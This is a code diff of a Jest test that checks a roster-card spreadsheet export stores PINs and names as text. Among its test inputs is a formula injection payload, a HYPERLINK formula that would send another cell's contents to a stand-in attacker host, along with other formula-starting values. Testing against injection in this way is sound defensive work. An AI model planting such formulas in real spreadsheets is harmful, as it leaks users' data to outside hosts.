@@ -1,8 +1,8 @@
 import { Buffer } from 'node:buffer';
 import { expect, it } from '@jest/globals';
-import readWorkbook from 'read-excel-file/node';
 import yauzl from 'yauzl';
 import { type Card, cardsList } from '../../src/operations/cards.ts';
+import { parseWorkbook } from '../../src/roster/workbook.ts';
 
 const card: Card = {
   signerId: 'a',
@@ -30,7 +30,8 @@ async function sheetXml(bytes: Buffer): Promise<string> {
 it('holds PIN, number and names as text, so that no zero is lost and no name runs as a formula', async () => {
   const names = ['=HYPERLINK("http://jahat.example"&F2)', '+1', '-1', '@SUM(1)', 'Andi "Uda", S.STP.'];
   const bytes = await bytesOf(names.map((name) => ({ ...card, name })));
-  const [{ data } = { data: [] }] = await readWorkbook(bytes);
+  const [{ rows } = { rows: [] }] = await parseWorkbook(bytes);
+  const data = rows.map((row) => row.map(({ text }) => text));
   expect(data[0]).toEqual(['No.', 'Nama', 'Jabatan', 'Instansi', 'Kelompok', 'PIN', 'Tautan']);
   expect(data.slice(1).map((row) => row[1])).toEqual(expect.arrayContaining(names));
   for (const row of data.slice(1)) expect([row[0], row[5], row[6]]).toEqual(['7', '012345', card.link]);
